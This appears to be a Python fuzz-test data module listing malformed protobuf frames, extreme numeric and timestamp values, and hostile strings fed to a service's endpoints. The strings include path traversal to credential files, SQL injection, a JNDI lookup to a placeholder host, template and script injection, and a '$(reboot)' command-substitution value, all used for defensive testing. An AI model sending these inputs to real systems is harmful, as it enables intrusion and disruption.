"""What the fuzz suite feeds the servers: frames that are no protobuf message, and the
extreme values random well-formed messages are made of."""

from __future__ import annotations

import math

# Frames that no message type parses (each is checked against the method's input type
# before a test expects INVALID_ARGUMENT for it).
MALFORMED_FRAMES: dict[str, bytes] = {
    "four bytes of 0xff": b"\xff\xff\xff\xff",
    "wire type 7": b"\x0f",
    "tag without value": b"\x08",
    "eleven-byte varint": b"\x08" + b"\x80" * 10 + b"\x01",
    "length past the end": b"\x0a\x05ab",
    "length of 4 GiB": b"\x0a\xff\xff\xff\xff\x0f",
    "end group without start": b"\x0c",
    "groups nested past the depth limit": b"\x7b" * 200 + b"\x7c" * 200,
}

INT32 = (0, 1, -1, 2**31 - 1, -(2**31))
INT64 = (0, 1, -1, 2**53 + 1, 2**62, -(2**62), 2**63 - 1, -(2**63))
UINT32 = (0, 1, 2**32 - 1)
UINT64 = (0, 1, 2**63, 2**64 - 1)
DOUBLES = (0.0, -0.0, 0.5, 1e308, -1e308, 5e-324, math.nan, math.inf, -math.inf, 2.0**53 + 1)
# Timestamp/Duration parts: inside, at and far outside their documented ranges.
SECONDS = (0, 1, -1, 253_402_300_799, 253_402_300_800, -62_135_596_801, 2**62, -(2**62),
           2**63 - 1, -(2**63))  # fmt: skip
NANOS = (0, 999_999_999, 1_000_000_000, -1, -999_999_999, 2**31 - 1, -(2**31))
UNKNOWN_ENUMS = (12345, -1, 2**31 - 1)

HUGE = "x" * 1_000_000
STRINGS = (
    "",
    "x",
    "tenants/default",
    "tenants/globex",
    "tenants/default/runs/nosuchrun",
    "tenants/default/tools/nosuchtool",
    "tenants/default/tools/noop/versions/9.9.9",
    "tenants/default/artifacts/nosuchartifact",
    "tenants/default/runs/-",
    "tenants/*",
    "tenants/default/../globex",
    "../../../../etc/passwd",
    "/etc/passwd",
    "/",
    "/tmp",
    "C:\\Windows\\System32",
    "file:///etc/shadow",
    "s3://bucket/../../secret",
    "unix:///var/run/docker.sock",
    "'; DROP TABLE runs; --",
    '" OR 1=1 --',
    "%s%s%s%n",
    "${jndi:ldap://example.invalid/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "$(reboot)",
    "\x00",
    "a\x00b",
    "\u202egnp.exe",
    "\U0001f600" * 16,
    "\n\r\t ",
    "sha256:" + "0" * 64,
    "0" * 64,
    "/flnet.api.control.v1.RunService/GetRun",
    "NOT_FOUND",
    "NaN",
    "-Infinity",
    "9" * 40,
    "x" * 5_000,
    HUGE,
)
